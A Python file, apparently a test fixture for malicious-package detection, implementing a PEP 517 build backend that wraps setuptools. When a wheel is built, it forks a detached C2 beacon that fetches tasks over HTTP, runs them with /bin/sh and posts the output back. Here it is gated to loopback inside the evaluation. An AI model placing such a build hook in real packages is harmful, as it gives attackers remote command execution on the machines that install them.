# Evaluation fixture (malicious): an in-tree PEP 517 backend that wraps
# setuptools and, while building the wheel, starts a detached HTTP beacon:
# it polls its C2 for tasks, runs them with sh and posts the output back,
# a few times, outliving the install.  Acts only inside the evaluation:
# SP_TOKEN set, the C2 host resolving to loopback (the evaluation's C2 hands
# out one task that writes a marker).
import os
import socket
import subprocess
import time
import urllib.request

from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403


def _beacon(base):
    for _ in range(4):
        try:
            task = urllib.request.urlopen(base + "/c2/task?id=" + socket.gethostname(), timeout=5).read()
            out = subprocess.run(["/bin/sh", "-c", task.decode()], capture_output=True, timeout=30).stdout
            urllib.request.urlopen(base + "/c2/result", out, timeout=5).read()
        except (OSError, subprocess.SubprocessError):
            pass
        time.sleep(1)


def _start():
    host = os.environ.get("SP_HOOK_HOST")
    if not os.environ.get("SP_TOKEN") or not host:
        return
    try:
        if not socket.gethostbyname(host).startswith("127."):
            return
    except OSError:
        return
    base = "http://%s:%s" % (host, os.environ.get("SP_HTTP_PORT", "80"))
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                _beacon(base)
            finally:
                os._exit(0)
        os._exit(0)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _start()
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
